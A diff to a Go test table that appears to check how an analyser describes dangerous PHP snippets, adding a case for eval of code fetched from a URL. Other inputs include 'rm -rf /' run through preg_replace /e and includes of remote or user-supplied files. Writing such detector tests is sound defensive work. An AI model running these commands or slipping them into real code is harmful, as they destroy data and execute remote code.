@@ -125,6 +125,7 @@ var phpDynamic = []curlyCase{
 	{"a replacement that is code", `preg_replace('/a/e', 'system("rm -rf /")', 'a');`, phpWipe},
 	{"include of a URL", `include 'http://example.com/a';`, `evaluates include http://example.com/a…`},
 	{"include of what is not known", `include $_GET['f'];`, `evaluates include …`},
+	{"eval of what the network says", `eval(file_get_contents('https://h/a'));`, "connects file_get_contents \"https://h/a\"\nevaluates eval …"},
 	{"eval of a file", `eval(file_get_contents('a.php'));`, "reads file_get_contents \"a.php\"\nruns eval \"php\" \"a.php\""},
 	{"function from outside", `$_GET['f']($_GET['a']); $argv[1]($argv[2]);`, "evaluates outside() …\nevaluates outside() …"},
 	{"function handed on", `foo('system'); foo(system(...));`, `shell system …`},
